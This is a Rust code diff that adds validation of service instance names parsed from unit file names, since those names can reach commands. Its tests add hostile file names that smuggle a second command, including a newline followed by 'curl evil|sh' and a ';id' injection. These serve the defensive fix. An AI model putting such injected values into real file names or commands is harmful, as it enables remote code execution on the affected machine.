@@ -3,7 +3,7 @@
 use std::path::{Path, PathBuf};
 
 use super::error::ServiceError;
-use crate::config::{DEFAULT_INSTANCE, Env};
+use crate::config::{DEFAULT_INSTANCE, Env, check_instance};
 use crate::state::paths::{Scope, runtime_dir};
 use crate::state::untrusted_file;
 
@@ -233,9 +233,10 @@ fn instance_of(file: &str) -> Option<String> {
     if stem == DEFAULT_INSTANCE {
         return Some(stem.to_owned());
     }
+    // In another user's home the rest may be anything, and commands contain it.
     stem.strip_prefix(DEFAULT_INSTANCE)?
         .strip_prefix('@')
-        .filter(|name| !name.is_empty())
+        .filter(|name| check_instance(name).is_ok())
         .map(str::to_owned)
 }
 
@@ -268,6 +269,8 @@ mod tests {
             ("gateway@web.service", ours),
             ("gateway@.service", ours),
             ("gateway.socket", ""),
+            ("gateway@x\ncurl evil|sh.service", ours),
+            ("gateway@;id.service", ours),
             (
                 "gateway@other.service",
                 "[Service]\nExecStart=/opt/api/server\n",
